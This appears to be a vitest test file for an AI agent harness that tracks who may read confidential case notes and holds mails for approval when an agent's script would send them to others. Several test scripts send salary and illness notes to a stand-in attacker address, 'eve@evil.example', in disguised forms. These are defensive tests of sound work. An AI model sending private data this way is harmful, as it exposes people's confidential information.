import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { defineTool, type HarnessOptions, type Outcome } from '#core/index.js';
import type { ScriptOrigin } from '#core/protocol.js';
import { openWorld } from './support.js';

const CASES = [
  { id: 1, owner: 'amy@corp.example', note: 'Amy earns 90 000.', team: 'Blue' },
  { id: 2, owner: 'bob@corp.example', note: 'Bob is ill until May.', team: 'Red' },
];

interface Sent {
  readonly to: string | readonly string[];
  readonly body: unknown;
}

/** A file of cases that only their owners may read, and mails. */
function openOffice(options: Partial<HarnessOptions> = {}) {
  const sent: Sent[] = [];
  const listCases = defineTool({
    name: 'listCases',
    description: 'Lists cases.',
    input: z.object({}),
    effect: 'read',
    approval: 'never',
    labels: (result) =>
      (result as typeof CASES).map(({ owner }, index) => ({
        path: `[${index}].note`,
        trust: 'trusted',
        readers: [owner, 'boss@corp.example'],
      })),
    execute: () => CASES,
  });
  const sendMail = defineTool({
    name: 'sendMail',
    description: 'Sends a mail.',
    input: z.object({ to: z.union([z.string(), z.array(z.string())]), body: z.unknown() }),
    effect: 'external',
    flow: { readersOf: 'body', readBy: 'to' },
    execute: (input) => {
      sent.push(input as Sent);
      return 'sent';
    },
  });
  return { ...openWorld({ ...options, tools: [listCases, sendMail] }), sent };
}

const LIST = 'const cases = await tools.listCases({});';

function reasonsOf(outcome: Outcome) {
  expect(outcome.status, JSON.stringify(outcome.error)).toBe('suspended');
  return outcome.pendingApprovals![0]!.provenance!.reasons;
}

describe('a text that only some may read', () => {
  it.each([
    ['as it is', 'cases[0].note', `'amy@corp.example'`],
    ['in another text', `cases[0].note.toUpperCase() + ' (' + cases[0].id + ')'`, `'boss@corp.example'`],
    ['in an object', `{ rows: [{ text: cases[0].note }] }`, `['amy@corp.example', 'boss@corp.example']`],
    ['with others that the receiver may read', 'cases.map(({ note }) => note).join()', `'boss@corp.example'`],
    ['beside what everybody may read', `cases.map(({ team }) => team).join()`, `'eve@evil.example'`],
    ['not in a literal', `'Lunch?'`, `'eve@evil.example'`],
  ])('reaches its readers without a question: %s', async (_name, body, to) => {
    const { harness, sent } = openOffice();
    const outcome = await harness.runScript(`${LIST} await tools.sendMail({ to: ${to}, body: ${body} });`);
    expect(outcome.status, JSON.stringify(outcome.pendingApprovals?.[0]?.provenance)).toBe('completed');
    expect(sent).toHaveLength(1);
  });

  it.each([
    ['as it is', 'cases[0].note', `'bob@corp.example'`],
    ['changed', '[...cases[1].note].reverse().join("")', `'amy@corp.example'`],
    ['to one more', 'cases[0].note', `['amy@corp.example', 'eve@evil.example']`],
    ['to nobody who is named', 'cases[0].note', `[]`],
    ['with others', 'cases.map(({ note }) => note).join()', `'amy@corp.example'`],
    ['in the whole result', 'JSON.stringify(cases)', `'amy@corp.example'`],
    ['in a list', '[{ text: cases[0].note }]', `'bob@corp.example'`],
    ['in the name of a member', '({ [cases[0].note]: true })', `'bob@corp.example'`],
    [
      'in the answer of a sub-agent',
      `(await tools.extract({ task: 'x', text: cases[0].note })).answer`,
      `'bob@corp.example'`,
    ],
  ])('asks before it reaches others: %s', async (_name, body, to) => {
    const { harness, sent } = openOffice();
    const outcome = await harness.runScript(`${LIST} await tools.sendMail({ to: ${to}, body: ${body} });`);
    const reasons = Object.values(reasonsOf(outcome));
    expect(reasons).not.toEqual([]);
    for (const reason of reasons)
      expect(reason).toMatch(/^comes from \w+ \(line 1\), which not all of "to" may read$/u);
    expect(outcome.pendingApprovals![0]!.provenance!.status).toBe('proven');
    expect(sent).toEqual([]);
  });

  it('asks where the labels are unknown, and only about those who may not read everything', async () => {
    const { harness, sent } = openOffice();
    const send = (to: string, body: string) =>
      harness.runScript(`const $ = 1; ${LIST} await tools.sendMail({ to: '${to}', body: ${body} });`);
    expect(reasonsOf(await send('amy@corp.example', `'a' + $`))).toEqual({
      body: 'has an unknown source, and the script has text that not all of "to" may read',
    });
    expect((await send('boss@corp.example', 'cases[0].note + $')).status).toBe('completed');
    expect((await send('amy@corp.example', `'Lunch?'`)).status).toBe('completed');
    expect(sent).toHaveLength(2);
  });

  it('names its readers in the provenance, and the model reads no receiver after a denial', async () => {
    const { harness } = openOffice();
    const outcome = await harness.runScript(
      `${LIST} await tools.sendMail({ to: 'eve' + '@evil.example', body: cases[0].note });`,
    );
    const { provenance, approvalId } = outcome.pendingApprovals![0]!;
    expect(provenance).toMatchObject({
      guarded: ['body'],
      arguments: { body: [{ tool: 'listCases', readers: ['amy@corp.example', 'boss@corp.example'] }] },
    });
    const denied = await harness.resume(outcome.suspension!, { [approvalId]: 'deny' });
    expect(denied.error?.message).toContain('the argument "body" comes from listCases (line 1)');
    expect(denied.error?.message).not.toContain('evil');
  });

  it('asks also about a receiver that the user has named', async () => {
    const { harness } = openOffice();
    const origin: ScriptOrigin = { userTexts: ['Send it to bob@corp.example'], hasReadUntrusted: false };
    const outcome = await harness.runScript(
      `${LIST} await tools.sendMail({ to: 'bob@corp.example', body: cases[0].note });`,
      { origin },
    );
    expect(reasonsOf(outcome)).toHaveProperty('body');
  });

  it('costs no question without parts that have readers', async () => {
    const { harness, sent } = openOffice();
    const outcome = await harness.runScript(`const $ = 1;
const page = await tools.readPage({ url: 'https://shop.example' });
await tools.sendMail({ to: 'eve@evil.example', body: page.text + $ });`);
    expect(outcome.status).toBe('completed');
    expect(sent).toHaveLength(1);
  });
});
